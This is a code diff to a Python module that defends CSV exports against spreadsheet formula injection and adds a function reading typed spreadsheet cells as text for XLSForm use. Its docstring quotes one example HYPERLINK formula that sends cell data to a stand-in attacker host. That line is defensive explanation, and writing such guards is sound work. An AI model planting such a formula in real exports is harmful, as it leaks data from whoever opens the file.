@@ -1,6 +1,11 @@
-"""Spreadsheet cells that stay text: neutralising formula injection in exports.
+"""Spreadsheet cells as text: typed cells read, formula injection in exports neutralised.
 
-A spreadsheet (Excel, LibreOffice Calc, Google Sheets) opening a CSV file
+Reading: :func:`cell_text` turns a typed cell (what calamine or openpyxl give
+for an .xlsx, .xls or .ods) into the text the file's author sees, as pyxform
+does when it converts an XLSForm for KoboToolbox or ODK, so a form's names
+match the answers those tools export.
+
+Writing: a spreadsheet (Excel, LibreOffice Calc, Google Sheets) opening a CSV file
 evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
 versions, a tab, carriage return or NUL before one) as a formula: an open
 answer ``=HYPERLINK("https://evil.example/?"&A2;"klik")`` becomes a link that
@@ -31,9 +36,45 @@ Pure: no Django, no I/O.
 
 from __future__ import annotations
 
+import datetime as dt
 import re
 
 QUOTE = "'"
+
+
+def cell_text(value: object) -> str:
+    """A typed spreadsheet cell as text, the way pyxform reads it.
+
+    - empty (``None``) → ``""``; text is stripped of surrounding white space;
+    - a whole number, stored as a float or not, without ``.0``: ``3.0`` →
+      ``"3"``, ``-0.0`` → ``"0"`` (a choice typed as ``1`` is stored as the
+      number 1.0, and Kobo exports its answer as ``1``); other numbers as
+      Python writes them (``3.5``, ``1e-07``);
+    - a boolean → ``"TRUE"``/``"FALSE"``, as Excel shows it and Kobo exports
+      it (yes/no columns read it case-blind);
+    - a date → ``2026-05-01``; a date and time → ``2026-05-01 08:30:00``, or
+      the date alone at midnight (a date cell in some readers); a time →
+      ``08:30:00``; a duration as Python writes it (``1:30:00``).
+
+    Text such as ``NA`` or ``n/a`` stays text: whether it means "no answer"
+    is for the reader of answers to say, not for a form's cells.
+    """
+    if value is None:
+        return ""
+    if isinstance(value, str):
+        return value.strip()
+    if isinstance(value, bool):
+        return "TRUE" if value else "FALSE"
+    if isinstance(value, float) and value.is_integer():
+        return str(int(value))
+    if isinstance(value, dt.datetime):
+        if value.time() == dt.time(0, 0) and value.tzinfo is None:
+            return value.date().isoformat()
+        return value.isoformat(sep=" ")
+    if isinstance(value, dt.date | dt.time):
+        return value.isoformat()
+    return str(value).strip()
+
 
 # The characters that make a spreadsheet read a cell as a formula when they
 # come first: OWASP's = + - @ tab CR, ASVS's NUL, a line feed (the CR's twin),
